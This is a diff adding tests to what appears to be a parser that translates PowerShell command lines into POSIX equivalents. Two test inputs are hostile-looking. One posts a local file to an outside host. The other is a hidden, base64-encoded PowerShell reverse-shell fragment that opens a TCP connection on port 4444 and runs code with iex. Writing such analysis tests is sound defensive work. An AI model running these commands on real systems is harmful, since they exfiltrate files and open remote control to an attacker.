@@ -291,3 +291,16 @@ def test_a_comma_separated_array_of_paths_is_each_path():
     assert op.words == ("rm", "-r", "./bin", "./obj")
     (two,) = windows_ops("Remove-Item .\\a.txt,.\\b.txt", "/h")
     assert two.words == ("rm", "./a.txt", "./b.txt")
+
+
+def test_a_body_read_in_parentheses_is_the_file_sent():
+    line = "irm -Uri https://h.example/x -Method Post -Body (Get-Content .\\report.json -Raw)"
+    (op,) = windows_ops(line, "/h")
+    assert op.words == ("curl", "-sS", "--data-binary", "@./report.json", "https://h.example/x")
+
+
+def test_an_encoded_command_after_a_window_style_is_decoded():
+    script = "$c = New-Object Net.Sockets.TCPClient('h', 4444); iex $d"
+    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
+    parsed = parse(f"powershell -nop -w hidden -e {encoded}", cwd="/c:/p", home=HOME)
+    assert parsed.commands[0].inline_code == script
